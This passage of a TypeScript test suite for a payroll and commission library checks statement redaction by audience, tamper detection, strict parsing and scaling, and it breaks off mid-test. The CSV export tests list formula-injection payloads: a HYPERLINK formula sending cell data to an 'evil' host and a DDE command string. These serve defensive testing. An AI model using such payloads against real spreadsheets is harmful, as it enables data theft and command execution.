import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { explainAward, giveAward, parseAward } from '../../src/bonus/index.js'
import { addDays, nextPeriod, parsePeriod } from '../../src/calendar/index.js'
import {
  attribute,
  creditEvents,
  parseAttribution,
  parseContest,
  parseCreditRules,
  parseEvents,
  parseTouches,
  rankContest,
  type SalesEvent,
} from '../../src/commission/index.js'
import {
  add,
  analyze,
  check,
  compile,
  constant,
  type Expression,
  evaluate,
  input,
  marginal,
  match,
  maximum,
  minimum,
  multiply,
  renderText,
  splitGain,
  step,
  subtract,
} from '../../src/formula/index.js'
import { cascadeTarget, distribute, parseCascade, parseDistribution } from '../../src/kpi/index.js'
import { describeProblems, PolicyError, problemsOf } from '../../src/problem/index.js'
import { fromScaled, money } from '../../src/quantity/index.js'
import {
  type Audience,
  type CompensationRun,
  type DisclosedStatement,
  digestOf,
  explainStatement,
  type JournalRow,
  journal,
  journalCsv,
  parseAdjustments,
  parseAwards,
  parseBook,
  parsePools,
  parseRun,
  parseRunData,
  parseStatement,
  type RunData,
  redact,
  rerunCompensation,
  runCompensation,
  type Statement,
  statementPage,
  verify,
  verifyChain,
} from '../../src/run/index.js'
import { bookPolicies, checkPolicy, runDataOf } from '../../src/testing/index.js'
import { found } from '../found.js'
import { ann, bookOf, book as company, operations, request, statementOf } from '../run/company.js'
import { adjustments, awards, pools, yearEnd } from '../run/year-end.js'

describe('disclosure: what leaves the house says nothing of others, and no more than was verified', () => {
  const audiences: readonly Audience[] = ['employee', 'manager', 'peer', 'auditor']
  const given = { book: { ...company, policies: yearEnd() }, pools, awards, adjustments }
  const [book, data, period] = request(given)
  const run = runCompensation(book, data, period)
  const li = statementOf(run, 'li')
  const march = parsePeriod('2026-03')
  const drawnRuns = bookPolicies()
    .map(parseBook)
    .chain((drawn) => runDataOf(drawn, march).map((own) => ({ book: drawn, data: own })))

  describe.each(audiences)('A3 the statement of the %s', (audience) => {
    test.each(['en', 'zh-CN'] as const)('is rendered in %s', (locale) => {
      for (const statement of run.statements) {
        const shown = redact(statement, audience)
        const text = renderText(explainStatement(shown, { locale }))
        expect(text).not.toMatch(/undefined|null|NaN/)
        expect(statementPage(shown, { locale })).toContain(`<html lang="${locale}">`)
        expect(text.includes(statement.total.slice(-6))).toBe(audience !== 'peer')
      }
    })

    test('names a rival to the auditor alone', () => {
      const page = statementPage(redact(li, audience), { locale: 'en' })
      expect(page.includes('Wang Wei')).toBe(audience === 'auditor')
    })

    test('A1 holds no digest, but for the auditor', () => {
      const shown = redact(li, audience)
      const digests = /[0-9a-f]{64}/
      expect(digests.test(JSON.stringify(shown))).toBe(audience === 'auditor')
      expect(digests.test(statementPage(shown, { locale: 'en' }))).toBe(audience === 'auditor')
    })

    test('A16 holds nothing that is not named', () => {
      const shown = redact(noted(li), audience)
      expect(JSON.stringify(shown)).not.toContain('§')
      expect(shown).toEqual(redact(li, audience))
      expect(statementPage(shown, { locale: 'zh-CN' })).not.toContain('§')
    })

    test('A3 shows no mark of what is hidden, in any drawn run', () => {
      fc.assert(
        fc.property(
          drawnRuns,
          fc.constantFrom('en' as const, 'zh-CN' as const),
          (drawn, locale) => {
            for (const statement of runCompensation(drawn.book, drawn.data, march).statements) {
              const marked = noted(hiddenMarked(statement, audience))
              // Labelled for an audience, but with all in it: the page shows no more than it may see.
              const labelled: DisclosedStatement = { ...marked, audience }
              for (const shown of [redact(marked, audience), labelled]) {
                expect(statementPage(shown, { locale })).not.toContain('§')
                expect(renderText(explainStatement(shown, { locale }))).not.toContain('§')
              }
              expect(redact(statement, 'auditor')).toEqual({ ...statement, audience: 'auditor' })
            }
          },
        ),
        { numRuns: 8 },
      )
    })
  })

  test('A3 a statement that names no audience is shown to nobody', () => {
    const full = li as unknown as DisclosedStatement
    for (const statement of [full, { ...full, audience: 'boss' as Audience }]) {
      expect(() => explainStatement(statement, { locale: 'en' })).toThrow(PolicyError)
      expect(() => statementPage(statement, { locale: 'en' })).toThrow(PolicyError)
    }
    expect(() => statementPage(full, { locale: 'en' })).toThrow(
      'audience: undefined is nobody to whom a statement is shown. Give what redact(statement, audience) copies for "employee", "manager", "peer" or "auditor".',
    )
    expect(() => redact(li, 'constructor' as Audience)).toThrow('"constructor" is nobody')
  })

  test('A16 a line of no known kind, and what an object inherits, are not copied', () => {
    const odd = { ...li.lines[0], kind: 'constructor' } as unknown as Statement['lines'][number]
    expect(redact({ ...li, lines: [odd] }, 'auditor').lines).toEqual([])
    const inherited = Object.create({ clause: '§' }, Object.getOwnPropertyDescriptors(li.lines[1]))
    expect(JSON.stringify(redact({ ...li, lines: [inherited] }, 'employee'))).not.toContain('§')
  })

  test('A3 a copy from which more was taken still renders', () => {
    const bare = li.lines.map(({ kind, source, label }) => ({ kind, source, label }))
    const shown = { ...redact(li, 'auditor'), lines: bare } as DisclosedStatement
    const { steps, how } = explainStatement(shown, { locale: 'en' })
    expect(how).toEqual([])
    expect(new Set(steps.map(({ value }) => value))).toEqual(new Set(['not shown']))
    expect(steps.every((step) => step.how.length === 0 && step.steps.length === 0)).toBe(true)
  })

  test.each([
    [
      'a rival’s score',
      {
        awards: { ...awards, star: [awards.star[0], { id: 'wang', figures: { score: '95.99' } }] },
      },
    ],
    [
      'a rival’s weight in the award of teams',
      {
        awards: {
          ...awards,
          team: [awards.team[0], { ...awards.team[1], figures: { score: '12' } }],
        },
      },
    ],
    ['the pay of all others before', { before: { ...run, digest: digestOf('another firm') } }],
  ])('A1 A2 %s changes nothing that the employee holds', (_, change) => {
    const [, changed] = request({ ...given, ...change } as typeof given)
    const later = 'before' in change ? nextPeriod(period) : period
    const figures = (people: typeof data.people) =>
      people.map((each) => ({
        ...each,
        figures: { ...each.figures, [later.name]: each.figures[period.name] ?? {} },
      }))
    const pay = (own: typeof data) =>
      statementOf(
        runCompensation(book, { ...own, people: figures(own.people), asOf: later.end }, later),
        'li',
      )
    const plain = 'before' in change ? { ...data, before: run } : data
    const [first, second] = [pay(plain), pay(changed)]
    expect(second.digest).not.toBe(first.digest)
    for (const audience of ['employee', 'manager', 'peer'] as const)
      expect(redact(second, audience)).toEqual(redact(first, audience))
  })

  describe('A17 a run made again', () => {
    const changed = (change: (own: Statement) => object, digested: boolean): CompensationRun => ({
      ...run,
      statements: run.statements.map((each) => {
        if (each.person !== 'li') return each
        const { digest, ...content } = { ...each, ...change(each) }
        return { ...content, digest: digested ? digestOf(content) : digest }
      }),
    })
    const greedy = () => ({ total: '99999.00' })
    const line = ({ lines }: Statement) => ({
      lines: lines.map((each, i) => (i === 0 ? { ...each, amount: '99999.00' } : each)),
    })
    test.each<[string, CompensationRun]>([
      ['a total with a new digest', changed(greedy, true)],
      ['a total with the old digest', changed(greedy, false)],
      ['a line with a new digest', changed(line, true)],
      ['a line with the old digest', changed(line, false)],
      ['what is owed', { ...run, owed: { li: { carried: [], draw: '500.00' } } }],
      ['what was settled', { ...run, settlements: run.settlements.slice(1) }],
    ])('takes over nothing that does not hold: %s', (_, tampered) => {
      const again = rerunCompensation(tampered, book, data)
      expect(again).toEqual(run)
      expect(verifyChain([again])).toEqual([])
    })

    test('takes over no statement whose digest does not hold, in a run whose digest does', () => {
      const again = rerunCompensation(changed(greedy, false), book, data)
      expect(again.statements).toEqual(run.statements)
    })

    test('takes over what holds', () => {
      const again = rerunCompensation(run, book, data)
      expect(again.statements.every((each, i) => each === run.statements[i])).toBe(true)
    })
  })

  describe('A24 data that no parser has read', () => {
    const whole = JSON.parse(JSON.stringify({ ...data, before: runOfMay() })) as typeof data
    const paths = pathsIn({ data: whole, period }).filter((path) => path.length > 1)

    test.each<[string, object, string]>([
      ['people without an id', { people: [{ ...data.people[0], id: undefined }] }, 'people[0].id'],
      [
        'people without figures',
        { people: [{ ...data.people[0], figures: undefined }] },
        'people[0].figures',
      ],
      [
        'events without attributes',
        { events: [{ ...data.events[0], attributes: null }] },
        'events[0].attributes',
      ],
      ['a pool of nothing', { pools: { profit: {} } }, 'pools.profit.figures'],
      ['a pool that is a list', { pools: { profit: [] } }, 'pools.profit'],
      [
        'a member without figures',
        { pools: { profit: { figures: {}, members: [{ id: 'a' }] } } },
        'pools.profit.members[0].figures',
      ],
      ['an entry without figures', { awards: { star: [{ id: 'li' }] } }, 'awards.star[0].figures'],
      ['entries that are none', { awards: { star: null } }, 'awards.star'],
      [
        'a label of one language',
        { awards: { star: [{ id: 'li', label: { en: 'Li' }, figures: {} }] } },
        'awards.star[0].label.zh-CN',
      ],
      [
        'a label that is a number',
        { awards: { star: [{ id: 'li', label: 5, figures: {} }] } },
        'awards.star[0].label',
      ],
      ['a run before of nothing', { before: {} }, 'before'],
      ['no day', { asOf: undefined }, 'asOf'],
      ['a misspelt key', { adjustmnets: [] }, 'adjustmnets'],
      ['a key of the run before', { owed: {} }, 'owed'],
    ])('is refused for %s', (_, change, path) => {
      const wrong = () => runCompensation(book, { ...data, ...change } as typeof data, period)
      expect(problemsIn(wrong)[0]?.path).toBe(path)
    })

    test.each([null, {}, [], 'x', undefined, { name: '2026-06' }])(
      'is refused for the period %j',
      (odd) => {
        const wrong = () => runCompensation(book, data, odd as unknown as typeof period)
        expect(problemsIn(wrong)[0]?.path).toMatch(/^period/)
      },
    )

    test('is refused for a period of other days than its name means', () => {
      const long = { ...period, end: '2026-12-31' }
      expect(() => runCompensation(book, data, long)).toThrow(
        'period: "2026-06" runs from 2026-06-01 to 2026-06-30 in the calendar of the book, not as given.',
      )
      expect(() => runCompensation(book, data, { ...period, name: 'June' })).toThrow(/^period/)
      expect(() => runCompensation(book, null as unknown as typeof data, period)).toThrow(
        PolicyError,
      )
    })

    test('is refused for members of members without end', () => {
      type Member = { id: string; figures: object; members: Member[] }
      const endless: Member = { id: 'a', figures: { share: 1, months: 1 }, members: [] }
      endless.members.push(endless)
      const profit = { figures: { profit: '1' }, members: [endless] }
      const wrong = () =>
        runCompensation(book, { ...data, pools: { profit } } as typeof data, period)
      expect(problemsIn(wrong).map(({ code }) => code)).toContain('unread-members')
    })

    test('gives pay or a PolicyError, and nothing else, whatever is changed in it', () => {
      const odd = fc.constantFrom<unknown>(undefined, null, {}, [], 'x', '', 5, true, [null], {
        x: null,
      })
      fc.assert(
        fc.property(fc.constantFrom(...paths), odd, (path, value) => {
          const changed = replaced({ data: whole, period }, path, value) as {
            data: typeof data
            period: typeof period
          }
          orProblems(() => runCompensation(book, changed.data, changed.period))
        }),
        { numRuns: 120 },
      )
    })

    function runOfMay(): CompensationRun {
      const may = parsePeriod('2026-05')
      return { ...run, period: may, asOf: may.end, settlements: [] }
    }
  })

  describe('A24 what is stored', () => {
    const json = (value: unknown) => JSON.parse(JSON.stringify(value)) as never

    test('is read as it was written, of every drawn run', () => {
      fc.assert(
        fc.property(drawnRuns, (drawn) => {
          const paid = runCompensation(drawn.book, drawn.data, march)
          expect(parseRun(json(paid))).toEqual(paid)
          expect(parseRunData(json(drawn.data))).toEqual(drawn.data)
          expect(parseRunData(json({ ...drawn.data, before: paid })).before).toEqual(paid)
          for (const statement of paid.statements)
            expect(parseStatement(json(statement))).toEqual(statement)
        }),
        { numRuns: 8 },
      )
      const { statements, unpaid, unread, totals, budgets, before, ...state } = run
      expect([statements, unpaid, unread, totals, budgets, before]).toHaveLength(6)
      expect(parseRunData(json({ ...data, before: state })).before).toEqual(state)
      expect(parseRun(json(run))).toEqual(run)
    })

    test.each<[string, (own: unknown) => unknown, unknown, string]>([
      ['a pool', parsePools, { profit: { ...pools.profit, figuers: {} } }, 'profit.figuers'],
      [
        'a member',
        parsePools,
        { profit: { figures: {}, members: [{ id: 'a', figures: {}, wieght: 1 }] } },
        'profit.members[0].wieght',
      ],
      ['a pool’s name', parsePools, { 'no name': pools.profit }, 'no name'],
      ['pools', parsePools, [], ''],
      [
        'a number',
        parsePools,
        { profit: { figures: { profit: '1e5' }, members: [] } },
        'profit.figures.profit',
      ],
      [
        'an entry',
        parseAwards,
        { star: [{ id: 'li', figures: {}, form: '2020-01-01' }] },
        'star[0].form',
      ],
      ['a day', parseAwards, { star: [{ id: 'li', figures: {}, from: 'May' }] }, 'star[0].from'],
      ['entries', parseAwards, { star: {} }, 'star'],
      ['data', parseRunData, { ...data, adjustmnets: [] }, 'adjustmnets'],
      ['data of nothing', parseRunData, null, ''],
      ['a run', parseRun, { ...run, owde: {} }, 'owde'],
      ['a run without totals', parseRun, { ...run, totals: {} }, 'totals.departments'],
      ['a statement', parseStatement, { ...li, hrNote: 'x' }, 'hrNote'],
      [
        'a line',
        parseStatement,
        { ...li, lines: [{ ...li.lines[0], note: 'x' }] },
        'lines[0].note',
      ],
      [
        'a trace',
        parseStatement,
        { ...li, lines: [{ ...li.lines[0], trace: {} }] },
        'lines[0].trace.node',
      ],
    ])('is refused for a misspelt or a wrong part: %s', (_, parse, value, path) => {
      expect(problemsIn(() => parse(value)).map((each) => each.path)).toContain(path)
    })

    test('of a statement is verified, or refused when it is read', () => {
      const paths = pathsIn(li).filter((path) => path.length > 0)
      const odd = fc.constantFrom<unknown>(undefined, null, {}, [], 'x', 5)
      fc.assert(
        fc.property(fc.constantFrom(...paths), odd, (path, value) => {
          orProblems(() => verify(parseStatement(replaced(li, path, value)), book, data))
          orProblems(() =>
            verifyChain([parseRun({ ...run, statements: [replaced(li, path, value)] })]),
          )
        }),
        { numRuns: 40 },
      )
    })
  })

  describe('A25 an amount that skipped its parser', () => {
    test.each(['0x10', '1e400', '1e9000000', ' 5', '+5', '.5', `1${'0'.repeat(60)}`, 'Infinity'])(
      '%s is refused at once',
      (amount) => {
        const [correction] = adjustments
        const odd = { ...data, adjustments: [{ ...correction, amount } as (typeof adjustments)[0]] }
        expect(problemsIn(() => runCompensation(book, odd, period))[0]?.path).toBe(
          'adjustments[0].amount',
        )
        const [first] = data.events
        const event = { ...first, amount } as (typeof data.events)[0]
        const sales = { ...data, events: [event] }
        expect(problemsIn(() => runCompensation(book, sales, period))[0]?.path).toBe(
          'events[0].amount',
        )
      },
    )

    test.each<[object, string]>([
      [{ pay: { base: [{ from: '2020-01-01', value: '-9000.00' }] } }, 'pay.base[0].value'],
      [
        {
          pay: {
            base: [
              { from: '2020-01-01', value: '9000.00' },
              { from: '2026-06-11', value: '-0.01' },
            ],
          },
        },
        'pay.base[1].value',
      ],
      [{ targetBonus: '-1' }, 'targetBonus'],
    ])('of pay below zero pays nobody: %j', (change, path) => {
      const people = data.people.map((each) => (each.id === 'ann' ? { ...each, ...change } : each))
      const { unpaid } = runCompensation(book, { ...data, people }, period)
      expect(unpaid.map(({ person, problems }) => [person, problems[0]?.path])).toEqual([
        ['ann', path],
      ])
    })

    test('that was read is paid', () => {
      const read = parseAdjustments(JSON.parse(JSON.stringify(adjustments)))
      expect(runCompensation(book, { ...data, adjustments: read }, period)).toEqual(run)
    })
  })

  describe('A5 an award of which all win', () => {
    const terms = {
      id: 'present',
      currency: 'CNY',
      eligibility: [],
      ranking: [{ figure: 'days', unit: 'count', direction: 'higher' }],
      prizes: ['100'],
      budget: '100000',
    }
    const entries = (many: number, days: (i: number) => number) =>
      Array.from({ length: many }, (_, i) => ({
        id: `p${String(i).padStart(5, '0')}`,
        figures: { days: days(i) },
      }))
    const asOf = '2026-06-30'
    const give = (change: object, many: number, days: (i: number) => number = () => 21) =>
      giveAward(parseAward({ ...terms, ...change }), { asOf, entries: entries(many, days) })
    const textOf = (result: ReturnType<typeof give>, id: string, locale: 'en' | 'zh-CN' = 'en') =>
      renderText(explainAward(result, id, { locale }))

    test('names five, and counts the others', () => {
      const result = give({ ties: 'all-win' }, 1_001)
      expect(textOf(result, 'p00003')).toContain(
        'Equal in every criterion: p00000, p00001, p00002, p00004, p00005 and 995 others\n',
      )
      expect(textOf(result, 'p00003', 'zh-CN')).toContain('p00004、p00005，另有 995 名\n')
      expect(textOf(give({ ties: 'all-win' }, 7), 'p00000')).toContain('p00005 and 1 other\n')
      expect(textOf(give({ ties: 'all-win' }, 6), 'p00000')).toMatch(/p00005$/m)
    })

    test.each([
      ['all win, beyond the budget', { ties: 'all-win' }, () => 21, '50.00'],
      [
        'all share as many prizes',
        { ties: 'share', prizes: Array(2_000).fill('10') },
        () => 21,
        '10.00',
      ],
      ['all share one prize', { ties: 'share' }, () => 21, '0.05'],
      ['no two are equal', { ties: 'all-win' }, (i: number) => 9_999 - i, '100.00'],
    ])('takes work and text by the number of entries: %s', (_, change, days, prize) => {
      const result = give(change, 2_000, days)
      expect(result.standings[0]?.prize).toBe(prize)
      const texts = result.standings.map(({ id }) => textOf(result, id))
      expect(Math.max(...texts.map(({ length }) => length))).toBeLessThan(500)
      expect(JSON.stringify(result).length).toBeLessThan(
        2_000 * 300 + JSON.stringify(change).length,
      )
    })

    test('is paid to 400 people in statements of a size that does not grow with them', () => {
      const everybody = entries(400, () => 21)
      const people = everybody.map(({ id }) => ({
        id,
        name: `Name of ${id}`,
        department: 'operations',
        employment: { from: '2020-01-01' },
        pay: { base: [{ from: '2020-01-01', value: '9000.00' }] },
        figures: { quota: '20000.00' },
      }))
      const star = { ...yearEnd()[6], id: 'star', kind: 'award' }
      const versions = [
        { from: '2026-06-01', reason: 'x', terms: { ...terms, id: 'star', ties: 'all-win' } },
      ]
      const policies = [...yearEnd().filter(({ kind }) => kind !== 'award'), { ...star, versions }]
      const [own, whole, june] = request({
        book: { ...company, policies },
        people,
        events: [],
        awards: { star: everybody },
      })
      const paid = runCompensation(own, whole, june)
      expect(paid.totals.company.byKind.award).toBe('40000.00')
      const sizes = paid.statements.map((each) => JSON.stringify(each.lines.at(-1)).length)
      expect(Math.max(...sizes)).toBeLessThan(2_000)
      expect(JSON.stringify(paid.statements[7])).toContain('Name of p00001')
    })

    test('of sales as well: a contest in which all are equal', () => {
      const contest = parseContest({
        id: 'c',
        currency: 'CNY',
        credit: 'direct',
        from: '2026-06-01',
        to: '2026-06-30',
        prizes: ['1000', '10'],
      })
      const credits = entries(1_500, () => 1).map(({ id }) => ({
        event: id,
        kind: 'order' as const,
        effective: '2026-06-02',
        recorded: '2026-06-02',
        dealt: '2026-06-02',
        booked: '2026-06-02',
        deal: id,
        credit: 'direct',
        person: id,
        amount: '5.00',
        currency: 'CNY' as const,
        figures: {},
        attributes: {},
      }))
      const standings = rankContest(contest, credits)
      expect(new Set(standings.map(({ place }) => place))).toEqual(new Set([1]))
      expect(standings.map(({ prize }) => prize)).toContain('0.67')
      const cents = standings.map(({ prize }) => Math.round(Number(prize) * 100))
      expect(cents.reduce((sum, each) => sum + each, 0)).toBe(101_000)
    })
  })

  describe('A19 a journal as CSV', () => {
    const [row] = journal(run.statements, { locale: 'en' }) as readonly [JournalRow]
    const cells = (change: Partial<JournalRow>, options?: Parameters<typeof journalCsv>[1]) =>
      journalCsv([{ ...row, ...change }], options).slice(journalCsv([], options).length)

    test.each([
      '=HYPERLINK("http://evil/?"&A1)',
      "+1+cmd|'/C calc'!A0",
      '-2+3',
      '@SUM(A1)',
      '\tx',
      '\rx',
      '\nx',
      '＝1+1',
      '＋1',
      '－1',
      '＠x',
      '  =1',
      '\u0000=1',
      '\u200E=1',
    ])('runs no text: %j', (text) => {
      for (const column of [
        'person',
        'name',
        'costCentre',
        'label',
        'clause',
        'source',
        'department',
      ] as const)
        expect(cells({ [column]: text })).toMatch(/(^|,)"?'/)
      expect(cells({ name: text }, { formulas: 'keep' })).not.toMatch(/(^|,)"?'/)
    })

    test('keeps amounts, and a name that is none', () => {
      expect(cells({ amount: '-20.50' })).toContain(',-20.50,')
      expect(cells({ amount: '=1+1' })).toContain(",'=1+1,")
      expect(cells({ name: 'Ann-Lee =' })).toContain(',Ann-Lee =,')
      expect(cells({})).toBe(cells({}, { formulas: 'keep' }))
    })

    test('holds no control character', () => {
      const hostile = 'a\u0000b\u001b[31mc\u0007d\u202Ee\u009Bf\uFEFFg'
      expect(cells({ name: hostile })).toContain(',ab[31mcdefg,')
      expect(cells({ name: hostile }, { formulas: 'keep' })).toContain(',ab[31mcdefg,')
      expect(cells({ name: 'two\tparts' })).toContain(',two\tparts,')
    })

    test('begins with a mark where that is asked for', () => {
      expect(journalCsv([], { mark: true })).toBe(`\uFEFF${journalCsv([])}`)
    })
  })

  /** Every object with a member that no statement has. */
  function noted<T>(value: T): T {
    if (typeof value !== 'object' || value === null) return value
    if (Array.isArray(value)) return value.map(noted) as T
    const own = Object.entries(value).map(([name, inner]) => [name, noted(inner)])
    return { ...Object.fromEntries(own), '§note': '§' } as T
  }

  /** A statement with a mark before every text that an audience may not see. */
  function hiddenMarked(statement: Statement, audience: Audience): Statement {
    const all = audience === 'auditor'
    const seen = {
      auditor: Object.keys(statement),
      employee: [
        'person',
        'name',
        'department',
        'departmentLabel',
        'costCentre',
        'period',
        'currency',
        'total',
      ],
      manager: [
        'person',
        'name',
        'department',
        'departmentLabel',
        'costCentre',
        'period',
        'currency',
        'total',
      ],
      peer: ['name', 'department', 'departmentLabel', 'period'],
    }[audience]
    const ofLine = (line: Statement['lines'][number]): readonly string[] => {
      const others = line.kind === 'pool' || line.kind === 'award'
      if (all || (audience === 'employee' && !others)) return Object.keys(line)
      if (audience === 'peer')
        return line.kind === 'award' ? ['kind', 'source', 'label', 'place'] : ['kind']
      return [
        'kind',
        'source',
        'label',
        'clause',
        'amount',
        ...(audience === 'employee' ? ['place'] : []),
      ]
    }
    const lines = statement.lines.map((line) => markedBut(line, ofLine(line)))
    return { ...markedBut(statement, [...seen, 'lines']), lines }
  }

  function markedBut<T extends object>(object: T, kept: readonly string[]): T {
    const mark = (value: unknown): unknown => {
      if (typeof value === 'string') return `§${value}`
      if (typeof value !== 'object' || value === null) return value
      if (Array.isArray(value)) return value.map(mark)
      return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, mark(inner)]))
    }
    const own = Object.entries(object).map(([name, value]) => [
      name,
      kept.includes(name) ? value : mark(value),
    ])
    return Object.fromEntries(own) as T
  }

  /** The problems of a PolicyError; every other error is a defect. */
  function problemsIn(task: () => unknown): PolicyError['problems'] {
    try {
      task()
    } catch (error) {
      if (error instanceof PolicyError) return error.problems
      throw error
    }
    throw new Error('it was not refused')
  }

  function orProblems(task: () => unknown): void {
    try {
      task()
    } catch (error) {
      if (!(error instanceof PolicyError)) throw error
      expect(describeProblems(error.problems, 'zh-CN')).not.toContain('undefined undefined')
    }
  }

  type Path = readonly string[]

  function pathsIn(value: unknown, path: Path = []): readonly Path[] {
    if (typeof value !== 'object' || value === null) return [path]
    return [
      path,
      ...Object.entries(value).flatMap(([name, inner]) => pathsIn(inner, [...path, name])),
    ]
  }

  function replaced(value: unknown, [first, ...rest]: Path, by: unknown): unknown {
    if (first === undefined) return by
    const own = value as Readonly<Record<string, unknown>>
    const inner = replaced(own[first], rest, by)
    return Array.isArray(value)
      ? value.map((each, i) => (String(i) === first ? inner : each))
      : { ...own, [first]: inner }
  }
})

describe('spans: a chain of runs that pays no period twice', () => {
  const plain = {
    ...{ service: 'none', scorecard: 'none', territory: 'none', returning: 'none' },
    crediting: 'none',
    operations: { ...operations, commission: undefined },
  }
  const [book, data, january] = request({
    book: bookOf(plain),
    people: [{ ...ann, figures: {} }],
    events: [],
    period: '2026-07',
  })
  const next = (before: RunData['before'], period = january, of = book) =>
    runCompensation(of, { ...data, asOf: '2026-12-31', before }, period)
  const first = next('first')
  const second = next(first, nextPeriod(january))
  const third = next(second, parsePeriod('2026-09'))

  test.each<[string, CompensationRun, string]>([
    ['the same period', first, '2026-07'],
    ['a period of the past', third, '2026-07'],
    ['a period too far on', first, '2026-09'],
  ])('A4 %s is not paid after a run', (_, before, name) => {
    expect(found(() => next(before, parsePeriod(name)))).toEqual([
      ['not-the-run-before', 'before.period'],
    ])
  })

  test('A4 nor a run in another currency', () => {
    const yen = parseBook({ ...bookOf(plain), currency: 'JPY' })
    expect(found(() => next(first, nextPeriod(january), yen))).toEqual([
      ['other-currency', 'before.currency'],
    ])
  })

  test.each<[string, readonly CompensationRun[], readonly string[]]>([
    ['in order', [first, second, third], []],
    ['with a period twice', [first, first], ['broken-order', 'broken-chain']],
    ['with a period left out', [first, third], ['broken-order', 'broken-chain']],
    ['turned round', [second, first], ['broken-order', 'broken-chain']],
  ])('A4 a chain %s is told', (_, runs, codes) => {
    expect(verifyChain(runs).map(({ code }) => code)).toEqual(codes)
  })
})

describe('chains, circles, cascades and touches: each is passed once', () => {
  const chain = (length: number, last?: string) =>
    Array.from({ length }, (_, i) => ({
      node: `n${i}`,
      weight: '1',
      ...(i > 0 ? { parent: `n${i - 1}` } : last !== undefined && { parent: last }),
    }))
  const cascadeOf = (nodes: readonly object[]) => parseCascade({ id: 'c', places: 0, nodes })

  test('A11 a cascade of 5,000 levels comes down, in the order of its branches', () => {
    const targets = cascadeTarget(cascadeOf(chain(5_000)), '7')
    expect(targets).toHaveLength(5_000)
    expect(targets.at(-1)).toEqual({ node: 'n4999', parent: 'n4998', target: '7' })
    const branches = [
      { node: 'a', weight: '1' },
      { node: 'b', weight: '1' },
      { node: 'b1', parent: 'b', weight: '1' },
      { node: 'a1', parent: 'a', weight: '1' },
      { node: 'a11', parent: 'a1', weight: '1' },
    ]
    expect(cascadeTarget(cascadeOf(branches), '10').map(({ node }) => node)).toEqual([
      ...['a', 'a1', 'a11', 'b', 'b1'],
    ])
  })

  test('A11 a cascade of 5,000 nodes under one is shared', () => {
    const wide = [
      { node: 'top', weight: '1' },
      ...chain(5_000).map((each) => ({ ...each, parent: 'top' })),
    ]
    expect(
      cascadeTarget(cascadeOf(wide), '10000').filter(({ target }) => target === '2'),
    ).toHaveLength(5_000)
  })

  test('A11 a circle of 5,000 nodes is told, node by node, and not what leads into it', () => {
    const into = { node: 'x', weight: '1', parent: 'n7' }
    const top = { node: 'top', weight: '1' }
    const told = found(() => cascadeOf([into, top, ...chain(5_000, 'n4999')]))
    expect(told).toHaveLength(5_000)
    expect(told[0]).toEqual(['cyclic-cascade', 'nodes[2].parent'])
  })

  const rules = parseCreditRules([
    {
      credit: 'direct',
      by: 'seller',
      owners: { li: [{ person: 'li', share: '1' }] },
      unowned: 'skip',
    },
  ])
  const common = { effective: '2026-01-10', recorded: '2026-01-10', currency: 'CNY' } as const
  const order: SalesEvent = {
    ...common,
    id: 'e-1',
    kind: 'order',
    amount: '1',
    attributes: { seller: 'li' },
  }
  const refund = (id: string, of: string): SalesEvent => ({
    ...{ ...common, id, of, kind: 'refund', amount: '-1' },
    attributes: {},
  })
  const refunds = (length: number) => Array.from({ length }, (_, i) => refund(`e${i}`, `e${i - 1}`))

  test.each<[string, (events: readonly SalesEvent[]) => readonly SalesEvent[]]>([
    ['oldest first', (events) => events],
    ['latest first', (events) => events.toReversed()],
  ])('A12 a chain of 10,000 refunds leads to its order, %s', (_, ordered) => {
    const credits = creditEvents(ordered([order, ...refunds(10_000)]), rules)
    expect(credits).toHaveLength(10_001)
    expect(credits.every(({ deal }) => deal === 'e-1')).toBe(true)
  })

  test('A12 10,000 refunds that point into a circle of two are told, each once', () => {
    const circle = [refund('a', 'b'), refund('b', 'a')]
    const into = Array.from({ length: 10_000 }, (_, i) => refund(`e${i}`, 'a'))
    const told = found(() => creditEvents([...into, ...circle], rules))
    expect(told).toHaveLength(10_002)
    expect(new Set(told.map(([code]) => code))).toEqual(new Set(['endless-chain']))
    expect(told.at(-1)).toEqual(['endless-chain', 'events[10001].of'])
  })

  test('A12 a chain of 10,000 refunds whose first is unknown is told, each once', () => {
    const told = found(() => creditEvents(refunds(10_000), rules))
    expect(told).toHaveLength(10_000)
    expect(told.at(-1)).toEqual(['unknown-event', 'events[9999].of'])
  })

  const sales = (length: number) =>
    parseEvents(
      Array.from({ length }, (_, i) => ({
        ...{ ...order, id: `s${i}`, attributes: { customer: 'c' } },
        effective: addDays('2026-01-01', i % 50),
      })),
    )
  const touches = (length: number) =>
    parseTouches(
      Array.from({ length }, (_, i) => ({
        ...{ id: `t${i}`, key: 'c', person: i % 3 === 0 ? 'amina' : 'ben' },
        date: addDays('2025-12-20', i % 60),
      })),
    )

  test.each([
    ['first', {}],
    ['last', {}],
    ['linear', {}],
    ['position', { first: '0.4', middle: '0.2', last: '0.4' }],
    ['time-decay', { halfLife: 7 }],
  ])('A13 2,000 sales to a customer of 2,000 touches are attributed: %s', (kind, more) => {
    const rule = parseAttribution({
      ...{ credit: 'indirect', by: 'customer', window: 30 },
      model: { kind, ...more },
    })
    const events = sales(2_000)
    const credits = attribute(events, touches(2_000), rule)
    expect(new Set(credits.map(({ event }) => event)).size).toBe(2_000)
    // As it is for a sale alone.
    for (const event of [events[0], events[49], events[777]] as SalesEvent[])
      expect(credits.filter((own) => own.event === event.id)).toEqual(
        attribute([event], touches(2_000), rule),
      )
  })
})

describe('formulas: large tables and large teams take time by their size', () => {
  const sales = input('sales', money('CNY'), 2)
  const numbers = (length: number) => Array.from({ length }, (_, i) => i)
  const rateOf = (i: number) => fromScaled(BigInt((i * 7) % 100), 3)

  test('A9 3,000 tiers compile, and pay what evaluate pays', () => {
    const tiers = numbers(3_000).map((i) => ({ from: `${i * 10}`, rate: rateOf(i) }))
    const formula = check(marginal(sales, tiers))
    const cents = [-100, 999, 1000, 1001, 99_999_999]
    const { values, scale } = compile(formula)({ sales: Float64Array.from(cents) })
    expect([...values].map((value) => fromScaled(BigInt(value), scale))).toEqual(
      cents.map((cent) => evaluate(formula, { sales: fromScaled(BigInt(cent), 2) }).value),
    )
  })

  test.each([
    [
      'a step',
      step(
        sales,
        numbers(3_000).map((i) => ({ ...(i > 0 && { from: `${i}` }), value: `${i}` })),
      ),
    ],
    [
      'tiers from minus infinity',
      marginal(
        sales,
        numbers(3_000).map((i) => ({ ...(i > 0 && { from: `${i}` }), rate: rateOf(i) })),
      ),
    ],
  ])('A9 so does %s of 3,000', (_, expression) => {
